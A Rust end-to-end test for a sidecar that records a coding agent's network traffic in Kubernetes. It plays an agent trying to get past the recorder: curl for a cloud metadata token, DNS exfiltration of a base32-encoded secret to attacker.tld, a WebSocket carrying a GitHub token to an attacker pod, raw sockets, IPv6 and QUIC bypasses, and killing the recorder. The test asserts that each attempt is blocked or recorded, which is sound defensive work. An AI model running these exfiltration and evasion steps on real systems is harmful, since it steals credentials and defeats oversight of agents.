//! The capture issue's attacks run in a real session pod on the real node: the chart
//! installed by helm, the pod run by the kubelet through containerd and runc, the capture
//! rules installed by the injected init container, the agent attacking from its own
//! container as root with the tools an attacker would use (python sockets, `dig`, `curl`),
//! and a second pod outside the session playing the attacker's server and the peer that
//! talks to the agent's listener. The recorder is then killed under the agent and the kubelet
//! restarts it.
//!
//! | attack | expected |
//! |---|---|
//! | `socket(AF_PACKET, SOCK_RAW)` and a raw IP socket, as root | EPERM: the runtime gives agent containers the chart's allowlist, without NET_RAW |
//! | curl to 169.254.169.254 for a token | the shim's placeholder, never the real token |
//! | the metadata address on another port | nothing |
//! | the sidecar as an explicit proxy, asked for the metadata server | refused: "metadata shim" |
//! | TLS to the attacker's pod, SNI of a passthrough host | refused, recorded as `destination`: the attacker's pod never sees a connection |
//! | the passthrough host at its own address | tunnelled: the upstream's own certificate verifies; both directions recorded as `stream` |
//! | UDP to 443 (QUIC) of the attacker's pod | nothing arrives |
//! | IPv6 (the pods are dual-stack) to the metadata server's IPv6 address | the shim's placeholder, or nothing |
//! | IPv6 to the attacker's pod: a bare TCP connection, UDP, an HTTP request | nothing reaches it unrecorded |
//! | the sidecar's admin port | answers, with nothing secret |
//! | `dig` to the cluster's resolver, UDP and TCP | answered through the sidecar; a `dns` record with name, type, answer, resolver |
//! | `dig @<attacker's pod>`, UDP and TCP | answered by the cluster's resolver; the attacker's pod hears nothing |
//! | `dig $(base32 secret).attacker.tld` | the name is in a `dns` record |
//! | a name a host rule denies | NXDOMAIN from the sidecar, recorded as denied with the rule |
//! | bytes that are not DNS to port 53, UDP and TCP | dropped; recorded as `FORMERR` with what was sent |
//! | the attacker's pod connects to a listener the agent opened | carried; both directions recorded, masked, as `stream` records of an `inbound` connection; the kubelet's probe of the listener still works |
//! | UDP from the attacker's pod to a socket the agent bound | dropped |
//! | a WebSocket to the attacker's pod carrying a secret | carried; each message both ways recorded, masked |
//! | an upgrade to a protocol of the agent's own (the attacker's server would answer 101) | 403 before the attacker sees the request; recorded as refused |
//! | the recorder killed mid-session | the kubelet restarts it; while it is down nothing leaves unrecorded; afterwards the agent's requests are recorded again and the recording verifies |
//!
//! Needs root and the real node's packages (`make deps`); skips with a message otherwise.

use anyhow::{Context, Result, bail};
use cassette_e2e::cluster;
use cassette_e2e::pods::{self, container_status, exec, logs, said, wait_ready};
use cassette_e2e::story::{self, RECORDINGS_BUCKET, World};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

const E2E_BINARY: &str = env!("CARGO_BIN_EXE_cassette-e2e");

/// The session the attacked pod belongs to.
const SESSION: &str = "capture";
/// The agent's pod and the attacker's.
const AGENT: &str = "attacked-agent";
const ATTACKER: &str = "attacker";
const ATTACKER_NAMESPACE: &str = "outside";

/// A GitHub token the agent's listener hands out, and an API key the peer sends in.
const GITHUB_TOKEN: &str = "ghp_cassetteInboundTest0123456789abcdefg";
const API_KEY: &str = "AIzaSyD3f4k3K3yF0rC4ss3tt3T3st1ng0123456";

/// The attacker's pod: TCP and UDP listeners on 443 and 53 that print what reaches them, and
/// on port 80 an HTTP server that answers any upgrade with 101: a WebSocket that answers each
/// message, or a raw tunnel of the agent's own protocol.
const ATTACKER_SERVER: &str = r#"
import base64, hashlib, socket, threading
def log(*a):
    print(*a, flush=True)
def upgrades(c, a):
    head = b''
    while b'\r\n\r\n' not in head:
        d = c.recv(4096)
        if not d:
            return
        head += d
    lines = head.decode('latin1').split('\r\n')
    field = lambda n: [l.split(':', 1)[1].strip() for l in lines if l.lower().startswith(n + ':')]
    log('http 80 from', a[0], lines[0], 'upgrade', field('upgrade'))
    key = field('sec-websocket-key')
    if not key:
        c.sendall(b'HTTP/1.1 101 Switching Protocols\r\nUpgrade: attacker-tunnel\r\nConnection: Upgrade\r\n\r\n')
        log('tunnel got', c.recv(4096))
        return
    accept = base64.b64encode(hashlib.sha1((key[0] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').encode()).digest())
    c.sendall(b'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ' + accept + b'\r\n\r\n')
    b0, b1 = c.recv(1)[0], c.recv(1)[0]
    mask = c.recv(4)
    data = b''
    while len(data) < b1 & 0x7f:
        data += c.recv((b1 & 0x7f) - len(data))
    text = bytes(b ^ mask[i % 4] for i, b in enumerate(data))
    log('ws got', text)
    reply = b'attacker got ' + text
    c.sendall(bytes([0x81, len(reply)]) + reply)
def http(port):
    s = dual(socket.SOCK_STREAM)
    s.bind(('::', port)); s.listen(16)
    while True:
        c, a = s.accept()
        threading.Thread(target=upgrades, args=(c, a), daemon=True).start()
def dual(kind):
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return s
def tcp(port):
    s = dual(socket.SOCK_STREAM)
    s.bind(('::', port)); s.listen(16)
    while True:
        c, a = s.accept(); log('tcp', port, 'accepted from', a[0]); c.close()
def udp(port):
    u = dual(socket.SOCK_DGRAM); u.bind(('::', port))
    while True:
        d, a = u.recvfrom(4096); log('udp', port, 'from', a[0], d[:40])
threading.Thread(target=http, args=(80,), daemon=True).start()
for port in (443, 53):
    threading.Thread(target=tcp, args=(port,), daemon=True).start()
    threading.Thread(target=udp, args=(port,), daemon=True).start()
log('listening')
threading.Event().wait()
"#;

/// The agent's own listener (its main process): TCP 8080 answers a line with the reply it is
/// given; UDP 9999 prints what it gets.
const AGENT_LISTENER: &str = r#"
import signal, socket, sys, threading
signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))
reply = sys.argv[1]
def log(*a):
    print(*a, flush=True)
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(('0.0.0.0', 8080)); t.listen(16)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9999))
def udp():
    while True:
        d, a = u.recvfrom(4096); log('udp', d)
threading.Thread(target=udp, daemon=True).start()
log('listening')
while True:
    c, a = t.accept()
    c.settimeout(5)
    try:
        line = c.makefile().readline()
    except OSError:
        line = ''
    if line:
        log('tcp', line.strip()); c.sendall(reply.encode() + b'\n')
    c.close()
"#;

/// As root in the agent's container: packet and raw IP sockets.
const RAW_SOCKETS: &str = r#"
import socket
for name, args in [('packet', (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))),
                   ('raw-ip', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))]:
    try:
        socket.socket(*args).close(); print(name, 'opened')
    except OSError as e:
        print(name, 'errno', e.errno)
"#;

/// TLS to `addr:port` naming `sni`, verified against the CA given (the upstreams' CA, which
/// only an untouched tunnel to the real upstream can satisfy).
const TLS_TO: &str = r#"
import socket, ssl, sys
addr, port, sni, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
ctx = ssl.create_default_context(cadata=ca)
try:
    with socket.create_connection((addr, port), timeout=10) as s:
        with ctx.wrap_socket(s, server_hostname=sni) as t:
            t.sendall(b'GET / HTTP/1.0\r\nHost: ' + sni.encode() + b'\r\n\r\n')
            t.recv(100)
            print('verified', dict(x[0] for x in t.getpeercert()['issuer']))
except Exception as e:
    print('failed', type(e).__name__, e)
"#;

/// UDP datagrams to port 443 (a QUIC client's first flight).
const QUIC: &str = r#"
import socket, sys
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
try:
    for _ in range(3):
        u.sendto(b'\xc0\x00\x00\x00\x01quic initial', (sys.argv[1], 443))
    u.recvfrom(100); print('answered')
except OSError as e:
    print('refused', e)
"#;

/// Over IPv6 to `ip`: a bare TCP connection to 443, and UDP to 443.
const IPV6: &str = r#"
import socket, sys
ip = sys.argv[1]
try:
    s = socket.create_connection((ip, 443), timeout=5); print('tcp6 connected'); s.close()
except OSError as e:
    print('tcp6 refused', e)
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.settimeout(2)
try:
    for _ in range(3):
        u.sendto(b'quic over v6', (ip, 443))
    u.recvfrom(100); print('udp6 answered')
except OSError as e:
    print('udp6 refused', e)
"#;

/// Bytes that are not DNS to port 53 of `server`, over UDP and TCP.
const NOT_DNS: &str = r#"
import socket, sys
server, payload = sys.argv[1], sys.argv[2].encode()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
try:
    u.sendto(payload, (server, 53)); print('udp answered', u.recvfrom(4096)[0])
except OSError as e:
    print('udp no answer:', e)
try:
    t = socket.create_connection((server, 53), timeout=5)
    t.sendall(payload); t.settimeout(3)
    print('tcp answered', t.recv(4096))
except OSError as e:
    print('tcp no answer:', e)
"#;

/// In the agent's container: a WebSocket to the attacker's pod carrying a secret, then an
/// upgrade to a protocol of the agent's own.
const UPGRADES: &str = r#"
import base64, os, socket, sys
ip, secret = sys.argv[1], sys.argv[2]
def upgrade(protocol, websocket):
    s = socket.create_connection((ip, 80), timeout=10)
    head = 'GET /chat HTTP/1.1\r\nHost: %s\r\nUpgrade: %s\r\nConnection: Upgrade\r\n' % (ip, protocol)
    if websocket:
        head += 'Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n' % base64.b64encode(os.urandom(16)).decode()
    s.sendall((head + '\r\n').encode())
    answer = b''
    while b'\r\n\r\n' not in answer:
        d = s.recv(4096)
        if not d:
            break
        answer += d
    print(protocol, 'answered', answer.split(b'\r\n')[0].decode(errors='replace'), flush=True)
    return s, answer
s, answer = upgrade('websocket', True)
if b' 101 ' in answer.split(b'\r\n')[0]:
    payload = ('agent says ' + secret).encode()
    mask = os.urandom(4)
    s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
    b0, b1 = s.recv(1)[0], s.recv(1)[0]
    data = b''
    while len(data) < b1 & 0x7f:
        data += s.recv((b1 & 0x7f) - len(data))
    print('ws reply', data.decode(), flush=True)
s.close()
s, answer = upgrade('attacker-tunnel', False)
s.close()
"#;

/// From the attacker's pod: a line to the agent's listener, the answer printed; then UDP.
const PEER: &str = r#"
import socket, sys
ip, line = sys.argv[1:3]
c = socket.create_connection((ip, 8080), timeout=10)
c.sendall(line.encode() + b'\n')
print(c.makefile().readline().strip())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(3):
    u.sendto(b'udp from outside', (ip, 9999))
"#;

/// A command in the agent's container.
fn agent(command: &[&str]) -> Result<String> {
    Ok(said(&exec(story::NAMESPACE, AGENT, "agent", command)?))
}

/// What `dig` said: the status and the answers as `<type> <data>`.
#[derive(Debug)]
struct Lookup {
    status: String,
    answers: Vec<String>,
}

fn dig(args: &[&str]) -> Result<Lookup> {
    let mut command = vec![
        "dig",
        "+tries=1",
        "+time=5",
        "+noall",
        "+comments",
        "+answer",
    ];
    command.extend_from_slice(args);
    let said = agent(&command)?;
    let status = said
        .split("status: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap_or("")
        .to_string();
    let answers = said
        .lines()
        .filter(|l| !l.starts_with(';') && !l.trim().is_empty())
        .filter_map(|l| {
            let fields: Vec<&str> = l.split_whitespace().collect();
            (fields.len() >= 5).then(|| format!("{} {}", fields[3], fields[4]))
        })
        .collect();
    Ok(Lookup { status, answers })
}

/// RFC 4648 base32 without padding, lowercase: how DNS exfiltration spells bytes.
fn base32(bytes: &[u8]) -> String {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut out = String::new();
    let (mut buffer, mut bits) = (0u32, 0);
    for &b in bytes {
        buffer = (buffer << 8) | u32::from(b);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(ALPHABET[((buffer >> bits) & 31) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(ALPHABET[((buffer << (5 - bits)) & 31) as usize] as char);
    }
    out
}

fn kinds<'a>(records: &'a [Value], kind: &str) -> Vec<&'a Value> {
    records.iter().filter(|r| r["kind"] == kind).collect()
}

/// The recorder's process on the node: containerd's task for the sidecar container.
fn sidecar_pid(world: &World, pod: &Value) -> Result<u32> {
    let id = container_status(pod, "cassette-sidecar")
        .and_then(|c| c["containerID"].as_str())
        .and_then(|id| id.strip_prefix("containerd://"))
        .context("the sidecar's container id")?
        .to_string();
    let out = world.node().ctr().args(["task", "ls"]).output()?;
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .find_map(|l| {
            let mut fields = l.split_whitespace();
            (fields.next() == Some(id.as_str())).then(|| fields.next()?.parse().ok())?
        })
        .with_context(|| {
            format!(
                "ctr lists no task {id}: {}",
                String::from_utf8_lossy(&out.stdout)
            )
        })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_ways_around_the_recorder_are_closed_on_a_real_node() -> Result<()> {
    cassette_e2e::require_node!();
    let world = World::start(E2E_BINARY.as_ref()).await?;
    let real = world.upstreams.token().to_string();
    let node = world.node();

    cluster().apply(
        &json!({
            "apiVersion": "cassette.dev/v1alpha1", "kind": "AgentSession",
            "metadata": {"name": SESSION, "namespace": story::NAMESPACE},
            "spec": {
                "agent": {"serviceAccount": "coding-agent"},
                "maxDuration": "2h",
                "recording": {"sink": format!("gs://{RECORDINGS_BUCKET}/sessions")},
                "policy": {
                    "passthrough": ["git.test"],
                    "rules": [{"name": "no-pastebin", "action": "deny",
                               "match": {"host": "*.pastebin.example"}}]
                }
            }
        })
        .to_string(),
    )?;
    cluster().apply(
        &json!({"apiVersion": "v1", "kind": "Namespace",
                "metadata": {"name": ATTACKER_NAMESPACE}})
        .to_string(),
    )?;
    let agent_image = node.image("agent")?;
    cluster().apply(
        &json!({
            "apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": ATTACKER, "namespace": ATTACKER_NAMESPACE},
            "spec": {
                "automountServiceAccountToken": false,
                "terminationGracePeriodSeconds": 1,
                "containers": [{"name": "server", "image": agent_image,
                                "command": ["python3", "-u", "-c", ATTACKER_SERVER],
                                "securityContext": {"runAsUser": 0}}]
            }
        })
        .to_string(),
    )?;
    cluster().apply(
        &json!({
            "apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": AGENT, "namespace": story::NAMESPACE,
                         "labels": {"cassette.dev/session": SESSION}},
            "spec": {
                "serviceAccountName": "coding-agent",
                "terminationGracePeriodSeconds": 10,
                "containers": [{
                    "name": "agent", "image": world.agent_image(),
                    "command": ["python3", "-u", "-c", AGENT_LISTENER,
                                &format!("agent says {GITHUB_TOKEN}")],
                    "securityContext": {"runAsUser": 0},
                    "ports": [{"containerPort": 8080}],
                    "readinessProbe": {"tcpSocket": {"port": 8080}, "periodSeconds": 2}
                }]
            }
        })
        .to_string(),
    )?;
    let attacker = wait_ready(ATTACKER_NAMESPACE, ATTACKER)?;
    let attacker_ip = attacker["status"]["podIP"]
        .as_str()
        .context("the attacker's pod IP")?
        .to_string();
    let attacker_v6 = attacker["status"]["podIPs"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|ip| ip["ip"].as_str())
        .find(|ip| ip.contains(':'))
        .with_context(|| {
            format!(
                "the attacker's pod has no IPv6 address: {}",
                attacker["status"]
            )
        })?
        .to_string();
    // Ready includes the kubelet's TCP probe of the agent's listener, through the inbound
    // capture.
    let pod = wait_ready(story::NAMESPACE, AGENT)?;
    let agent_ip = pod["status"]["podIP"]
        .as_str()
        .context("the agent's pod IP")?
        .to_string();
    let resolver = agent(&["cat", "/etc/resolv.conf"])?
        .lines()
        .find_map(|l| l.strip_prefix("nameserver "))
        .context("the pod's resolver")?
        .trim()
        .to_string();

    // Raw sockets, as root: the runtime gave the agent no NET_RAW.
    let raw = agent(&["python3", "-c", RAW_SOCKETS])?;
    assert!(
        raw.contains("packet errno 1") && raw.contains("raw-ip errno 1"),
        "a root agent opened a raw socket: {raw}"
    );

    // The metadata server: the shim's placeholder on port 80, nothing on another port.
    let token = agent(&[
        "curl",
        "-sS",
        "--max-time",
        "10",
        "-H",
        "Metadata-Flavor: Google",
        "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    ])?;
    assert!(
        token.contains("cassette-placeholder") && !token.contains(&real),
        "the agent's token from the metadata server: {token}"
    );
    let other_port = exec(
        story::NAMESPACE,
        AGENT,
        "agent",
        &[
            "curl",
            "-sS",
            "--max-time",
            "5",
            "http://169.254.169.254:8080/computeMetadata/v1/",
        ],
    )?;
    assert!(
        !other_port.status.success() && !said(&other_port).contains(&real),
        "the metadata address answered on another port: {}",
        said(&other_port)
    );

    // The sidecar itself as an explicit proxy, asked for the metadata server.
    let via_proxy = agent(&[
        "curl",
        "-sS",
        "--max-time",
        "5",
        "-x",
        "http://127.0.0.1:15001",
        "-H",
        "Metadata-Flavor: Google",
        "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    ])?;
    assert!(
        via_proxy.contains("metadata shim") && !via_proxy.contains(&real),
        "the proxy forwarded the agent to the metadata server: {via_proxy}"
    );

    // A passthrough host at the attacker's address: refused before any byte leaves.
    let ca = world.upstreams.ca_pem().to_string();
    let picked = agent(&[
        "python3",
        "-c",
        TLS_TO,
        &attacker_ip,
        "443",
        "git.test",
        &ca,
    ])?;
    assert!(
        picked.starts_with("failed"),
        "a passthrough tunnel to the agent's choice of address: {picked}"
    );
    // The passthrough host at its own address: the upstream's own certificate, untouched.
    let tunnelled = agent(&["python3", "-c", TLS_TO, "git.test", "443", "git.test", &ca])?;
    assert!(
        tunnelled.starts_with("verified") && tunnelled.contains("cassette-e2e upstream CA"),
        "the passthrough host was not tunnelled: {tunnelled}"
    );

    // QUIC to the attacker, IPv6 to the metadata server's IPv6 address.
    let quic = agent(&["python3", "-c", QUIC, &attacker_ip])?;
    assert!(!quic.contains("answered"), "UDP/443 was answered: {quic}");
    let v6 = exec(
        story::NAMESPACE,
        AGENT,
        "agent",
        &[
            "curl",
            "-sS",
            "--max-time",
            "5",
            "-g",
            "-H",
            "Metadata-Flavor: Google",
            "http://[fd20:ce::254]/computeMetadata/v1/instance/service-accounts/default/token",
        ],
    )?;
    // GCE's IPv6 metadata address gets what 169.254.169.254 gets: the shim, or nothing.
    assert!(
        !said(&v6).contains(&real)
            && (!v6.status.success() || said(&v6).contains("cassette-placeholder")),
        "the IPv6 metadata address answered: {}",
        said(&v6)
    );

    // IPv6 to the attacker's pod: the same capture as IPv4, so nothing reaches it unrecorded.
    let v6_raw = agent(&["python3", "-c", IPV6, &attacker_v6])?;
    let v6_http = agent(&[
        "curl",
        "-sS",
        "-g",
        "--max-time",
        "5",
        &format!("http://[{attacker_v6}]/v6-probe"),
    ])?;

    // The sidecar's admin port answers the agent with nothing secret.
    let metrics = agent(&["curl", "-sS", "http://127.0.0.1:15090/metrics"])?;
    assert!(
        metrics.contains("cassette_") && !metrics.contains(&real),
        "{metrics}"
    );

    // DNS: the cluster's resolver over UDP and TCP, the attacker's pod as a resolver, a
    // secret spelled as a name, a denied name, and bytes that are not DNS.
    let host = format!("A {}", node.host_ip());
    let answered = [
        ("UDP", dig(&["echo.test"])?),
        ("TCP", dig(&["+tcp", "git.test"])?),
        (
            "UDP to the attacker",
            dig(&[&format!("@{attacker_ip}"), "echo.test"])?,
        ),
        (
            "TCP to the attacker",
            dig(&["+tcp", &format!("@{attacker_ip}"), "git.test"])?,
        ),
    ];
    for (what, got) in &answered {
        assert!(
            got.status == "NOERROR" && got.answers.contains(&host),
            "DNS over {what} was not answered by the cluster's resolver: {got:?}"
        );
    }
    let exfil_name = format!("{}.attacker.tld", base32(b"agent-saw-hunter2"));
    let exfil = dig(&[&exfil_name, "TXT"])?;
    // The cluster's resolver knows no such name (CoreDNS here answers SERVFAIL, a resolver
    // that forwards would say NXDOMAIN); what matters is that the name is recorded.
    assert!(
        exfil.answers.is_empty() && exfil.status != "NOERROR",
        "{exfil:?}"
    );
    let denied = dig(&["paste.pastebin.example"])?;
    assert_eq!(denied.status, "NXDOMAIN", "{denied:?}");
    let not_dns = agent(&[
        "python3",
        "-c",
        NOT_DNS,
        &resolver,
        "this is not dns, just bytes out",
    ])?;

    // Inbound: the attacker's pod talks to the agent's listener, then sends it UDP.
    let peer = said(&exec(
        ATTACKER_NAMESPACE,
        ATTACKER,
        "server",
        &[
            "python3",
            "-c",
            PEER,
            &agent_ip,
            &format!("peer says {API_KEY}"),
        ],
    )?);
    assert!(
        peer.contains(&format!("agent says {GITHUB_TOKEN}")),
        "the peer's connection to the agent's listener: {peer}\nsidecar:\n{}",
        logs(story::NAMESPACE, AGENT, "cassette-sidecar")
    );
    std::thread::sleep(Duration::from_millis(800));
    let agent_heard = logs(story::NAMESPACE, AGENT, "agent");
    assert!(
        agent_heard.contains(&format!("tcp peer says {API_KEY}")),
        "{agent_heard}"
    );
    assert!(
        !agent_heard.contains("udp"),
        "UDP from outside reached the agent: {agent_heard}"
    );

    let attacker_heard = logs(ATTACKER_NAMESPACE, ATTACKER, "server");
    let v6_probe_arrived = attacker_heard.contains("GET /v6-probe");
    let attacker_heard: String = attacker_heard
        .lines()
        .filter(|l| !l.contains("GET /v6-probe"))
        .map(|l| format!("{l}\n"))
        .collect();
    assert!(
        attacker_heard.contains("listening")
            && !attacker_heard.contains("tcp ")
            && !attacker_heard.contains("udp "),
        "the attacker's pod heard from the agent: {attacker_heard}\nDNS said: {answered:?}\n\
         not DNS: {not_dns}\nIPv6: {v6_raw}"
    );

    // Upgrades to the attacker's pod: a WebSocket is carried and read; a protocol of the
    // agent's own is refused before the attacker hears of it.
    let upgraded = agent(&["python3", "-c", UPGRADES, &attacker_ip, GITHUB_TOKEN])?;
    assert!(
        upgraded.contains("websocket answered HTTP/1.1 101")
            && upgraded.contains(&format!("ws reply attacker got agent says {GITHUB_TOKEN}")),
        "the WebSocket to the attacker: {upgraded}"
    );
    assert!(
        upgraded.contains("attacker-tunnel answered HTTP/1.1 403"),
        "the agent's own upgrade: {upgraded}"
    );
    let attacker_heard = logs(ATTACKER_NAMESPACE, ATTACKER, "server");
    assert!(
        attacker_heard.contains("upgrade ['websocket']")
            && !attacker_heard.contains("attacker-tunnel"),
        "what the attacker's server saw: {attacker_heard}"
    );

    // The recorder killed under the agent: the kubelet restarts it. Nothing leaves while it is
    // down, and what the agent sends afterwards is recorded again.
    let before = pods::get(story::NAMESPACE, AGENT)?;
    let pid = sidecar_pid(&world, &before)?;
    let kill = std::process::Command::new("kill")
        .args(["-KILL", &pid.to_string()])
        .output()?;
    anyhow::ensure!(kill.status.success(), "kill: {}", said(&kill));
    let while_down = exec(
        story::NAMESPACE,
        AGENT,
        "agent",
        &[
            "curl",
            "-sS",
            "--max-time",
            "3",
            "https://echo.test/while-the-recorder-is-down",
        ],
    )?;
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        let pod = pods::get(story::NAMESPACE, AGENT)?;
        let sidecar = container_status(&pod, "cassette-sidecar").cloned();
        let restarted = sidecar
            .as_ref()
            .is_some_and(|c| c["restartCount"].as_u64().unwrap_or(0) >= 1 && c["ready"] == true);
        if restarted {
            break;
        }
        if Instant::now() > deadline {
            bail!(
                "the kubelet did not restart the recorder in 90s: {sidecar:?}\nkubelet:\n{}",
                node.log_tail("kubelet")
            );
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    let after = agent(&[
        "curl",
        "-sS",
        "--max-time",
        "10",
        "--retry",
        "5",
        "--retry-all-errors",
        "--retry-delay",
        "1",
        "https://echo.test/after-the-recorder-restarted",
    ])?;
    let upstream_saw = world.upstreams.log_entries()?;
    assert!(
        upstream_saw
            .iter()
            .any(|e| e.path == "/after-the-recorder-restarted"),
        "the agent's request after the restart did not arrive: {after}"
    );
    let went_while_down = upstream_saw
        .iter()
        .any(|e| e.path == "/while-the-recorder-is-down");

    // The pod ends; its recorder ships what it holds.
    let deleted = pods::kubectl(&[
        "delete",
        "pod",
        "-n",
        story::NAMESPACE,
        AGENT,
        "--wait=true",
        "--timeout=60s",
    ])?;
    anyhow::ensure!(deleted.status.success(), "{}", said(&deleted));
    let records = world.shipped_records(SESSION)?;

    let starts = kinds(&records, "session_start");
    let restarted: Vec<bool> = starts.iter().map(|s| s["restarted"] == true).collect();
    assert!(
        restarted == [false, true],
        "one start per recorder run, the second on the first's spool: {starts:#?}"
    );
    let paths: Vec<&str> = kinds(&records, "request")
        .iter()
        .filter_map(|r| r["path"].as_str())
        .collect();
    assert!(
        paths.contains(&"/after-the-recorder-restarted"),
        "the request after the restart is not recorded: {paths:?}"
    );
    if went_while_down {
        assert!(
            paths.contains(&"/while-the-recorder-is-down"),
            "a request reached the upstream while the recorder was down, unrecorded: {}",
            said(&while_down)
        );
    }

    let dns = kinds(&records, "dns");
    let query = |name: &str, transport: &str| {
        dns.iter()
            .find(|d| d["name"] == name && d["transport"] == transport)
            .copied()
            .with_context(|| format!("no {transport} dns record for {name}: {dns:#?}"))
    };
    let cluster_resolver = format!("{resolver}:53");
    let recorded = query("echo.test", "udp")?;
    assert_eq!(recorded["rcode"], "NOERROR", "{recorded}");
    assert_eq!(recorded["answers"], json!([host]), "{recorded}");
    assert_eq!(recorded["resolver"], cluster_resolver, "{recorded}");
    assert!(
        recorded["client"]
            .as_str()
            .is_some_and(|c| c.starts_with(&agent_ip)),
        "{recorded}"
    );
    let asked_attacker: Vec<&&Value> = dns
        .iter()
        .filter(|d| d["asked"] == format!("{attacker_ip}:53"))
        .collect();
    assert!(
        !asked_attacker.is_empty()
            && asked_attacker
                .iter()
                .all(|d| d["resolver"] == cluster_resolver),
        "the queries to the attacker's pod: {dns:#?}"
    );
    let recorded = query(&exfil_name, "udp")?;
    assert_eq!(recorded["qtype"], "TXT", "{recorded}");
    assert_eq!(recorded["rcode"], exfil.status.as_str(), "{recorded}");
    let recorded = query("paste.pastebin.example", "udp")?;
    assert_eq!(recorded["decision"], "deny", "{recorded}");
    assert!(
        recorded["rule"]
            .as_str()
            .is_some_and(|r| r.contains("no-pastebin")),
        "{recorded}"
    );
    for transport in ["udp", "tcp"] {
        assert!(
            dns.iter().any(|d| d["transport"] == transport
                && d["rcode"] == "FORMERR"
                && d["error"]
                    .as_str()
                    .is_some_and(|e| e.contains("not a DNS query"))),
            "the {transport} bytes that are not DNS are not recorded: {not_dns}\n{dns:#?}"
        );
    }

    let opened = kinds(&records, "conn_open")
        .into_iter()
        .find(|c| {
            c["capture"] == "inbound"
                && c["dst"] == format!("{agent_ip}:8080")
                && c["client"]
                    .as_str()
                    .is_some_and(|s| s.starts_with(&attacker_ip))
        })
        .with_context(|| {
            format!(
                "no inbound conn_open from the attacker: {:#?}",
                kinds(&records, "conn_open")
            )
        })?;
    let text = |direction: &str| -> String {
        kinds(&records, "stream")
            .into_iter()
            .filter(|r| r["conn"] == opened["conn"] && r["direction"] == direction)
            .filter_map(|r| r["text"].as_str())
            .collect()
    };
    assert!(
        text("down").contains("peer says «masked:google-api-key:"),
        "what the peer sent in: {:?}",
        text("down")
    );
    assert!(
        text("up").contains("agent says «masked:github-token:"),
        "what the agent sent out: {:?}",
        text("up")
    );
    let whole = serde_json::to_string(&records)?;
    assert!(!whole.contains(API_KEY) && !whole.contains(GITHUB_TOKEN) && !whole.contains(&real));

    if v6_probe_arrived {
        assert!(
            paths.contains(&"/v6-probe"),
            "an HTTP request over IPv6 reached the attacker unrecorded: {v6_http}"
        );
    }
    let messages = kinds(&records, "message");
    let said_by = |direction: &str| -> String {
        messages
            .iter()
            .filter(|m| m["direction"] == direction && m["opcode"] == "text")
            .filter_map(|m| m["text"].as_str())
            .collect()
    };
    assert!(
        said_by("up").contains("agent says «masked:github-token:")
            && said_by("down").contains("attacker got agent says «masked:github-token:"),
        "the WebSocket's messages are not recorded, masked: {messages:#?}"
    );
    let blocked = kinds(&records, "blocked");
    assert!(
        blocked.iter().any(|b| b["reason"] == "upgrade"
            && b["message"]
                .as_str()
                .is_some_and(|m| m.contains("attacker-tunnel"))),
        "the agent's own upgrade is not recorded as refused: {blocked:#?}"
    );
    assert!(
        blocked.iter().any(|b| b["reason"] == "destination"
            && b["message"].as_str().is_some_and(
                |m| m.contains(&attacker_ip) && m.contains("not an address of git.test")
            )),
        "the passthrough to the attacker's address is not recorded as refused: {blocked:#?}"
    );
    let tunnel = kinds(&records, "tls")
        .into_iter()
        .find(|t| t["passthrough"] == true)
        .context("the tunnel's tls record")?;
    for direction in ["up", "down"] {
        assert!(
            kinds(&records, "stream")
                .iter()
                .any(|s| s["conn"] == tunnel["conn"]
                    && s["direction"] == direction
                    && s["length"].as_u64().unwrap_or(0) > 0),
            "the tunnel's {direction} bytes are not recorded"
        );
    }

    let first_up = kinds(&records, "stream")
        .into_iter()
        .find(|s| s["conn"] == tunnel["conn"] && s["direction"] == "up" && s["offset"] == 0)
        .context("the tunnel's first bytes are not recorded")?;
    assert!(
        first_up["base64"]
            .as_str()
            .is_some_and(|b| b.starts_with("Fg")),
        "the tunnel's first bytes are the ClientHello (a TLS handshake record): {first_up}"
    );

    // The recording, both recorder runs, verifies.
    let verify = world.cassette(&["verify", SESSION])?;
    println!("{}", said(&verify));
    assert!(verify.status.success(), "{}", said(&verify));
    Ok(())
}
